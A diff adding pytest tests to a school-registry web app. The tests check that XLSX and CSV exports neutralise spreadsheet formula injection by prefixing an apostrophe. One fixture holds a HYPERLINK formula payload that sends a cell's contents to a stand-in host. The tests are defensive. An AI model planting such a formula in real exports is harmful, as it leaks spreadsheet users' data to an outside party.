@@ -68,3 +68,42 @@ def test_unknown_filters_are_refused(tmp_path: Path) -> None:
         export(tmp_path, "schools", "--filter", "colour=red")
     with pytest.raises(CommandError, match="district"):
         export(tmp_path, "schools", "--filter", "district=999999")
+
+
+FORMULA = '=HYPERLINK("http://x/?"&A2,"x")'
+
+
+def test_exported_text_never_becomes_a_formula(make_user: Any) -> None:
+    from junheng.core.services import object_save
+    from junheng.organisations.models import School
+
+    qingpu = District.objects.get(code="310118")
+    object_save(actor=None, instance=School(name=FORMULA, district=qingpu), check_scope=False)
+    client = Client()
+    client.force_login(make_user(Role.DISTRICT_BUREAU, qingpu))
+
+    response = client.get("/registry/schools/", {"export": "xlsx", "district": qingpu.code})
+    assert response.status_code == 200
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    (cell,) = [c for row in sheet.iter_rows() for c in row if "HYPERLINK" in str(c.value)]
+    assert cell.data_type == "s" and cell.value == "'" + FORMULA
+    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
+
+    response = client.get("/registry/schools/", {"export": "csv", "district": qingpu.code})
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    (text,) = [value for row in rows for value in row if "HYPERLINK" in value]
+    assert text == "'" + FORMULA
+
+
+def test_formula_starts_are_neutralised_and_numbers_left_alone(tmp_path: Path) -> None:
+    from junheng.core.exports import neutralised, write_workbook
+
+    for text in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"):
+        assert neutralised(text) == "'" + text
+    for value in (-3, -2.5, "-2.5", "+7", "1e3", "张三", "", None):
+        assert neutralised(value) == value
+    path = tmp_path / "w.xlsx"
+    with path.open("wb") as out:
+        write_workbook([("表", [["数", "文字"], [-3, "=1+1"], [-2.5, "-2.5"]])], out)
+    rows = list(openpyxl.load_workbook(path).active.iter_rows(values_only=True))
+    assert rows == [("数", "文字"), (-3, "'=1+1"), (-2.5, "-2.5")]
